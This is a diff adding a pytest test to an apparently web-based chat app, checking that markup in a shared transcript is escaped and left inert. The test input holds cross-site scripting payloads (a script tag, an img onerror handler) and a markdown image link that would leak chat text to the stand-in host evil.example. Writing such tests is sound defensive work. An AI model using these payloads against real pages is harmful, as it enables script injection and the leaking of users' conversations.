@@ -167,3 +167,14 @@ def test_a_locked_store_saves_everything_once_it_is_free(env, store_url, monkeyp
     app = send(app, "Does every company need to reach stage 3?")
     stored, _ = Store(store_url).load(conversation_id)
     assert len(stored.turns) == 6
+
+
+def test_markup_in_a_shared_transcript_stays_inert(env) -> None:
+    hostile = "Strategy? <script>alert(1)</script> ![leak](https://evil.example/?q=chat) <img src=x onerror=alert(2)>"
+    app = send(new_app(), hostile)
+    app = click(app, "share")
+    shared = new_app(share=app.session_state["links"][-1])
+    assert_no_exception(shared)
+    shown = "\n".join(str(part.value) for part in shared.markdown)
+    assert "&lt;script&gt;" in shown and "<script>" not in shown and "<img" not in shown
+    assert "](https://evil.example" not in shown and "!\\[leak\\]" in shown
